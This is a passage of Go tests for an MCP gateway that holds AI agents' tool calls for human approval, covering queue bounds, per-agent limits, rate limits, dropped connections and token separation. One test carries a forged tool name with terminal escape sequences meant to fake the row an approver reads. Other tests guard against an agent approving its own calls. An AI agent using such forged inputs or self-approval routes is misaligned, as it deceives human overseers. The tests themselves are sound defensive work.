			if _, _, reasons := decisionMeta(t, res); strings.Contains(strings.Join(reasons, " "), "limit 120") {
				continue
			}
		}
		if errs := countErrors(); errs > 0 {
			t.Logf("Redis counts timed out %v times on the replicas, which then counted alone: %q", errs, text(res))
			continue
		}
		t.Fatalf("after 120 calls across replicas, Redis answering every count: %q", text(res))
	}
	// Redis down: each replica falls back to counting in process (counted)
	r.Kill()
	res := call(t, ca, "remote__noop", map[string]any{})
	if res.IsError {
		t.Fatalf("with Redis down, a replica's own count is below the limit: %q", text(res))
	}
	if got := a.metric(t, "acgs_gateway_counter_errors_total", nil); got < 1 {
		t.Errorf("counter errors = %v", got)
	}
	// ... from this replica's calls of the last minute, not from zero
	m := a.lastCallMetrics(t)
	if n, _ := m["gateway_calls_last_minute"].(float64); n < 61 {
		t.Errorf("with Redis down the count was %v, want this replica's 61 calls before it", m["gateway_calls_last_minute"])
	}
}

func TestApprovalQueueBoundAndCancellation(t *testing.T) {
	e := startEnv(t, envOptions{extraYAML: "approvals: {timeout: 30s, max_pending: 1}\n"})
	gw := e.agent(t, "token-1")
	ctx, cancel := context.WithCancel(testCtx(t))
	held := make(chan error, 1)
	go func() {
		_, err := gw.CallTool(ctx, &mcp.CallToolParams{Name: "remote__delete_record", Arguments: map[string]any{"id": "1"}})
		held <- err
	}()
	e.waitPending(t, 1)
	// the queue is full: the next call needing approval is denied at once
	res := call(t, gw, "remote__delete_record", map[string]any{"id": "2"})
	if !res.IsError || !strings.Contains(text(res), "too many calls are waiting for approval") {
		t.Fatalf("over max_pending: %q", text(res))
	}
	// the agent gives up on the held call: it is dropped, not forwarded
	cancel()
	if err := <-held; err == nil {
		t.Fatal("a cancelled call returned no error")
	}
	deadline := time.Now().Add(10 * time.Second)
	for e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "cancelled"}) != 1 {
		if time.Now().After(deadline) {
			t.Fatalf("the cancelled hold was not counted; pending %v", e.metric(t, "acgs_gateway_approvals_pending", nil))
		}
		time.Sleep(20 * time.Millisecond)
	}
	if e.remote.Calls("delete_record") != 0 {
		t.Fatal("a cancelled or refused call reached the upstream")
	}
}

// TestApprovalHTTPAgentGone: an HTTP agent whose request ends without a
// word (its process crashed, a proxy timed out: no notifications/cancelled)
// has its held call dropped, counted cancelled: it is no longer pending, an
// approval of it finds nothing, and it never reaches the upstream, where a
// retry of the agent would have run it twice.
func TestApprovalHTTPAgentGone(t *testing.T) {
	e := startEnv(t, envOptions{extraYAML: "approvals: {timeout: 30s}\n"})
	ctx := testCtx(t)
	client := &http.Client{Transport: &http.Transport{}} // its own connections, closed with the request
	post := func(ctx context.Context, session string, body string) (*http.Response, error) {
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, e.agentURL, strings.NewReader(body))
		if err != nil {
			return nil, err
		}
		req.Header.Set("Authorization", "Bearer token-1")
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		if session != "" {
			req.Header.Set("Mcp-Session-Id", session)
			req.Header.Set("Mcp-Protocol-Version", "2025-06-18")
		}
		return client.Do(req)
	}
	resp, err := post(ctx, "", `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}`)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	session := resp.Header.Get("Mcp-Session-Id")
	if session == "" {
		t.Fatalf("initialize: %d without a session", resp.StatusCode)
	}
	if resp, err = post(ctx, session, `{"jsonrpc":"2.0","method":"notifications/initialized"}`); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	callCtx, crash := context.WithCancel(ctx)
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		if r, err := post(callCtx, session, `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"remote__delete_record","arguments":{"id":"gone"}}}`); err == nil {
			r.Body.Close()
		}
	}()
	held := e.waitPending(t, 1)[0]
	crash() // the connection closes; nothing else is sent
	<-ended
	deadline := time.Now().Add(10 * time.Second)
	for e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "cancelled"}) != 1 {
		if time.Now().After(deadline) {
			t.Fatalf("the held call of an agent that left is still held; pending %v", e.metric(t, "acgs_gateway_approvals_pending", nil))
		}
		time.Sleep(20 * time.Millisecond)
	}
	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+held.ID+"/approve", adminToken, nil, nil); code != http.StatusNotFound {
		t.Errorf("approving the dropped call: %d, want 404", code)
	}
	if n := e.remote.Calls("delete_record"); n != 0 {
		t.Errorf("the upstream ran the call of an agent that left %d times", n)
	}
}

// TestApprovalPerAgentBound: an agent at approvals.max_pending_per_agent
// has its next call needing approval denied at once, with a text naming
// that bound (not the global one), counted and logged as a refusal like
// the global bound's; another agent's calls are still held, and a verdict
// frees the first agent's slot.
func TestApprovalPerAgentBound(t *testing.T) {
	e := startEnv(t, envOptions{extraYAML: "approvals: {timeout: 30s, max_pending: 3, max_pending_per_agent: 1}\n"})
	a1, a2 := e.agent(t, "token-1"), e.agent(t, "token-2")
	hold := func(cs *mcp.ClientSession, id string) <-chan answer {
		return callAsync(t, cs, "remote__delete_record", map[string]any{"id": id})
	}
	first := hold(a1, "1")
	e.waitPending(t, 1)
	// agent-1 has its one slot: its next call is denied at once
	const perAgent = "approval required, but too many calls of this agent are waiting for approval (approvals.max_pending_per_agent)"
	res := call(t, a1, "remote__delete_record", map[string]any{"id": "2"})
	refusedID, outcome, reasons := decisionMeta(t, res)
	if !res.IsError || outcome != "deny" || !contains(reasons, perAgent) ||
		strings.Contains(text(res), "too many calls are waiting") {
		t.Fatalf("over max_pending_per_agent: %q %q", outcome, text(res))
	}
	if got := e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "refused"}); got != 1 {
		t.Errorf("refused = %v, want 1 (the per-agent denial)", got)
	}
	// agent-2 is still held though agent-1 is at its bound
	second := hold(a2, "3")
	pend := e.waitPending(t, 2)
	byAgent := map[string]gateway.Approval{}
	for _, a := range pend {
		byAgent[a.Agent] = a
	}
	if len(byAgent) != 2 || byAgent["agent-1"].ID == "" || byAgent["agent-2"].ID == "" {
		t.Fatalf("pending: %+v, want one call of each agent", pend)
	}
	// approving agent-1's call frees its slot
	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+byAgent["agent-1"].ID+"/approve", adminToken, nil, nil); code != http.StatusOK {
		t.Fatalf("approve: %d", code)
	}
	if r := <-first; r.err != nil || r.res.IsError || text(r.res) != "deleted 1" {
		t.Fatalf("approved call: %+v %v", r.res, r.err)
	}
	third := hold(a1, "4")
	for _, a := range e.waitPending(t, 2) {
		if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/deny", adminToken, nil, nil); code != http.StatusOK {
			t.Fatalf("deny %s's call: %d", a.Agent, code)
		}
	}
	for _, held := range []<-chan answer{second, third} {
		if r := <-held; r.err != nil || !r.res.IsError || !strings.Contains(text(r.res), "refused by") {
			t.Fatalf("refused call: %+v %v", r.res, r.err)
		}
	}
	if got := e.metric(t, "acgs_gateway_approvals_pending", nil); got != 0 {
		t.Errorf("pending after every verdict = %v", got)
	}
	if e.remote.Calls("delete_record") != 1 {
		t.Fatalf("upstream got %d delete_record calls, want 1 (the approved one)", e.remote.Calls("delete_record"))
	}
	e.stop()
	var logged int
	var decision map[string]any // the refused call's tool_call, as decided
	for _, r := range e.records(t) {
		res, _ := r["result"].(map[string]any)
		if r["path"] == gateway.DecisionPath && r["decision_id"] == refusedID {
			input, _ := r["input"].(map[string]any)
			decision, _ = input["tool_call"].(map[string]any)
		}
		if note, _ := res["note"].(string); r["path"] == "acgs/gateway/approval" && res["verdict"] == "refused" && res["by"] == "gateway" &&
			strings.Contains(note, "approvals.max_pending_per_agent") {
			logged++
			// as the other approval records, and the decision it links to
			if res["decision_id"] != refusedID || res["agent"] != "agent-1" || res["tool"] != "remote__delete_record" || res["approval_id"] != nil {
				t.Errorf("per-agent refusal record: %v, want decision %s, agent agent-1, tool remote__delete_record, no approval id (never held)", res, refusedID)
			}
		}
	}
	if logged != 1 {
		t.Errorf("%d per-agent refusals in the decision log, want 1", logged)
	}
	if agent, _ := decision["agent"].(map[string]any); decision["name"] != "remote__delete_record" || agent["id"] != "agent-1" {
		t.Errorf("the refused call's decision record: %v", decision)
	}
}

// TestRateLimitFollowsANewBundleOfTheSameRevision: the rate thresholds the
// gateway rounds call counts to come from the active bundle's content, not
// its revision name: a reload that lowers the limit under the same
// revision (an operator editing data.json) applies at once.
func TestRateLimitFollowsANewBundleOfTheSameRevision(t *testing.T) {
	e := startEnv(t, envOptions{})
	a1 := e.agent(t, "token-1")
	for i := range 3 {
		if res := call(t, a1, "remote__noop", map[string]any{}); res.IsError {
			t.Fatalf("call %d under the embedded limit: %q", i+1, text(res))
		}
	}
	bundle, err := engine.PathSource{Path: perAgentLimits(t, map[string]any{"agent-1": 3})}.Load(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	before, _ := e.svc.Engine.Info()
	if err := e.svc.Engine.Activate(context.Background(), bundle, "edited data.json"); err != nil {
		t.Fatal(err)
	}
	if after, _ := e.svc.Engine.Info(); after.Revision != before.Revision || after.Scope == before.Scope {
		t.Fatalf("revision %q → %q, scope %q → %q: want the same revision and another content", before.Revision, after.Revision, before.Scope, after.Scope)
	}
	res := call(t, a1, "remote__noop", map[string]any{})
	if _, _, reasons := decisionMeta(t, res); !res.IsError || !contains(reasons, "Agent 'agent-1' made at least 3 tool calls in the last minute (limit 3)") {
		t.Fatalf("4th call after the limit was lowered to 3: %q", reasons)
	}
}

// TestCallToAnUnknownUpstreamIsNotHeld: a call that would need approval
// but names no configured upstream is answered at once with the error of
// an unknown tool, not held (such calls could fill the approval queue).
func TestCallToAnUnknownUpstreamIsNotHeld(t *testing.T) {
	e := startEnv(t, envOptions{})
	a1 := e.agent(t, "token-1")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err := a1.CallTool(ctx, &mcp.CallToolParams{Name: "nosuch__delete_everything", Arguments: map[string]any{}})
	if err == nil || !strings.Contains(err.Error(), `no upstream is named "nosuch"`) {
		t.Fatalf("call to an unknown upstream: %v, want the unknown-tool error at once", err)
	}
	var l gateway.ApprovalList
	if code := e.admin(t, http.MethodGet, gateway.ApprovalsPath, adminToken, nil, &l); code != http.StatusOK || len(l.Approvals) != 0 {
		t.Fatalf("approvals: %d %+v, want none held", code, l.Approvals)
	}
}

// TestCallToAnUnlistedToolIsNotHeld: a call that would need approval but
// names a tool its upstream does not list (a name the agent made up to
// match an approval pattern, holding terminal escapes to forge the row an
// approver reads) is answered at once as a call of an unknown tool: never
// held, never forwarded. A listed tool of the same upstream is still held.
func TestCallToAnUnlistedToolIsNotHeld(t *testing.T) {
	e := startEnv(t, envOptions{})
	a1 := e.agent(t, "token-1")
	for _, name := range []string{"local__delete_x", "remote__delete_nothing_listed"} {
		ctx, cancel := context.WithTimeout(testCtx(t), 5*time.Second)
		_, err := a1.CallTool(ctx, &mcp.CallToolParams{Name: name, Arguments: map[string]any{"id": "1"}})
		cancel()
		if err == nil || !strings.Contains(err.Error(), "unknown tool") || !strings.Contains(err.Error(), "lists no tool named") {
			t.Fatalf("call of the unlisted %q: %v, want the unknown-tool error at once", name, err)
		}
	}
	// A name with control characters (one that would rewrite an
	// approver's terminal) is denied by the constitution itself
	// (c71a456), before any list is consulted: answered at once, never held.
	forged := "local__delete_x\r\x1b[1A\x1b[2Kapr_FAKE  agent-1  local__read_file\t{}"
	ctx, cancel := context.WithTimeout(testCtx(t), 5*time.Second)
	res, err := a1.CallTool(ctx, &mcp.CallToolParams{Name: forged, Arguments: map[string]any{"id": "1"}})
	cancel()
	if err == nil && (res == nil || !res.IsError) {
		t.Fatalf("call of %q: %+v, want a denial or an error at once", forged, res)
	}
	var l gateway.ApprovalList
	if code := e.admin(t, http.MethodGet, gateway.ApprovalsPath, adminToken, nil, &l); code != http.StatusOK || len(l.Approvals) != 0 {
		t.Fatalf("approvals: %d %+v, want none held", code, l.Approvals)
	}
	if got := e.metric(t, "acgs_gateway_upstream_calls_total", nil); got != 0 {
		t.Errorf("%v calls forwarded, want none", got)
	}
	held := callAsync(t, a1, "remote__delete_record", map[string]any{"id": "r-1"})
	a := heldOrAnswered(t, e, held)
	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/deny", adminToken, nil, nil); code != http.StatusOK {
		t.Fatalf("deny: %d", code)
	}
	if r := <-held; r.err != nil || !r.res.IsError {
		t.Fatalf("refused listed call: %+v %v", r.res, r.err)
	}
}

// TestAgentTokenIsNotAnAdminToken: a gateway whose agent's bearer token is
// also an admin token is refused: that agent could approve its own held
// calls.
func TestAgentTokenIsNotAnAdminToken(t *testing.T) {
	t.Setenv("GW_AGENT_TOKEN", "shared-token-1")
	gcfg, err := gateway.ParseConfig([]byte("listen: 127.0.0.1:0\nagents:\n  - {id: agent-1, token_env: GW_AGENT_TOKEN}\nupstreams:\n  - name: nothing\n    url: http://127.0.0.1:1/mcp\n"))
	if err != nil {
		t.Fatal(err)
	}
	e := startEnv(t, envOptions{}) // for an engine
	_, err = gateway.New(gcfg, gateway.Deps{Engine: e.svc.Engine, ConstitutionalHash: hash, AdminTokens: []string{"other", "shared-token-1"}})
	if err == nil || !strings.Contains(err.Error(), "agent-1") || !strings.Contains(err.Error(), "approve its own") || strings.Contains(err.Error(), "shared-token-1") {
		t.Fatalf("an agent token that is an admin token: %v", err)
	}
	if g, err := gateway.New(gcfg, gateway.Deps{Engine: e.svc.Engine, ConstitutionalHash: hash, AdminTokens: []string{"other"}}); err != nil {
		t.Fatalf("distinct tokens: %v", err)
	} else {
		g.Close()
	}
	// The admin variable named as an agent's during a rotation: the agent's
	// token is the whole list, which holds both admin tokens.
	t.Setenv("ADMIN_TOKEN", "admin-new-1,admin-old-1")
	rotating, err := gateway.ParseConfig([]byte("listen: 127.0.0.1:0\nagents:\n  - {id: agent-2, token_env: ADMIN_TOKEN}\nupstreams:\n  - name: nothing\n    url: http://127.0.0.1:1/mcp\n"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := gateway.New(rotating, gateway.Deps{Engine: e.svc.Engine, ConstitutionalHash: hash, AdminTokens: []string{"admin-new-1", "admin-old-1"}}); err == nil || !strings.Contains(err.Error(), "agent-2") {
		t.Fatalf("an agent token holding the admin tokens: %v", err)
	}
}
